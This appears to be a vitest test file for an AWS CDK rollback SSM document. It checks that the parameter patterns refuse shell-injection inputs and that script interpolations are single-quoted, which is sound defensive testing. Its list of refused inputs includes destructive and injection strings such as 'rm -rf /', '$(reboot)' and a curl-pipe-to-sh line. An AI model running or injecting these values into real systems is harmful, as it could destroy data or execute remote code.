// The rollback document's parameters are the only way deploy-event values reach a host shell: their allowedPatterns,
// compiled from the synthesized template, must pass names and versions and refuse anything a shell would interpret.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { App, Duration, Stack } from 'aws-cdk-lib';
import { Template } from 'aws-cdk-lib/assertions';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RollbackDocument } from '../../lib/rollback-document.ts';

interface DocumentContent {
  parameters: Record<string, { type: string; allowedPattern: string; default?: string }>;
  mainSteps: Array<{ action: string; inputs: { runCommand: string[]; timeoutSeconds: string } }>;
}

const outdir = mkdtempSync(path.join(tmpdir(), 'rollgate-document-'));
afterAll(() => rmSync(outdir, { recursive: true, force: true }));

let content: DocumentContent;
beforeAll(() => {
  // Only the document is under test here; the CloudFormation schema checks run on the full app (cfn-lint test).
  const app = new App({ outdir, builtinCloudFormationValidation: false });
  const stack = new Stack(app, 'DocumentTest');
  new RollbackDocument(stack, 'RollbackDocument', {
    scriptPath: '/opt/acme/roll-back.sh',
    timeout: Duration.minutes(7),
  });
  const documents = Template.fromStack(stack).findResources('AWS::SSM::Document');
  content = Object.values(documents)[0]!.Properties.Content as DocumentContent;
});

const pattern = (parameter: string) => new RegExp(content.parameters[parameter]!.allowedPattern);

const MALICIOUS = [
  '1.0; rm -rf /',
  '$(reboot)',
  '`id`',
  "1.0' && curl http://x | sh '",
  '1.0\nrm -rf /',
  '1.0 && true',
  'a|b',
  '>/etc/passwd',
  '../../etc/passwd',
  '${IFS}',
  'prod\tx',
];

describe('parameters', () => {
  it('are the four strings the deploy gate sends, with the documented patterns', () => {
    expect(content.parameters).toEqual({
      Service: expect.objectContaining({ type: 'String', allowedPattern: '^[A-Za-z0-9._-]{1,64}$' }),
      Environment: expect.objectContaining({ type: 'String', allowedPattern: '^[A-Za-z0-9._-]{1,64}$' }),
      FailedVersion: expect.objectContaining({ type: 'String', allowedPattern: '^[A-Za-z0-9._+-]{1,128}$' }),
      TargetVersion: expect.objectContaining({ type: 'String', allowedPattern: '^[A-Za-z0-9._+-]{1,128}$' }),
    });
  });

  it.each(
    ['Service', 'Environment', 'FailedVersion', 'TargetVersion'].flatMap((parameter) =>
      MALICIOUS.map((value) => [parameter, value] as const),
    ),
  )('%s refuses %j', (parameter, value) => {
    expect(pattern(parameter).test(value)).toBe(false);
  });

  it.each([
    ['Service', 'checkout'],
    ['Service', 'payments_eu-1.v2'],
    ['Environment', 'prod'],
    ['FailedVersion', '1.4.2'],
    ['FailedVersion', 'v1.4.2+build.5'],
    ['FailedVersion', '2026.01.07-rc1'],
    ['TargetVersion', '1.4.1'],
  ])('%s accepts %j', (parameter, value) => {
    expect(pattern(parameter).test(value)).toBe(true);
  });

  it.each([
    ['Service', ''],
    ['Environment', ''],
    ['FailedVersion', ''],
    // The planner never sends an empty target: a host script must not be left to guess where to go back to.
    ['TargetVersion', ''],
    ['Service', 'x'.repeat(65)],
    ['FailedVersion', '1'.repeat(129)],
  ])('%s refuses %j (empty or too long)', (parameter, value) => {
    expect(pattern(parameter).test(value)).toBe(false);
  });
});

describe('script step', () => {
  it('runs the operator script with every value single-quoted, as arguments and ROLLGATE_* variables', () => {
    const [step] = content.mainSteps;
    expect(step!.action).toBe('aws:runShellScript');
    expect(step!.inputs.timeoutSeconds).toBe('420');
    const script = step!.inputs.runCommand.join('\n');
    expect(script).toContain("script='/opt/acme/roll-back.sh'");
    for (const [variable, parameter] of [
      ['SERVICE', 'Service'],
      ['ENVIRONMENT', 'Environment'],
      ['FAILED_VERSION', 'FailedVersion'],
      ['TARGET_VERSION', 'TargetVersion'],
    ]) {
      expect(script).toContain(`export ROLLGATE_${variable}='{{ ${parameter} }}'`);
    }
    // Every interpolation sits inside single quotes, which no allowed value can close.
    expect(script.match(/\{\{ \w+ \}\}/g)).toHaveLength(4);
    expect(script.match(/'\{\{ \w+ \}\}'/g)).toHaveLength(4);
    expect(script).toContain(
      'exec "$script" "$ROLLGATE_SERVICE" "$ROLLGATE_ENVIRONMENT" "$ROLLGATE_FAILED_VERSION" "$ROLLGATE_TARGET_VERSION"',
    );
  });
});
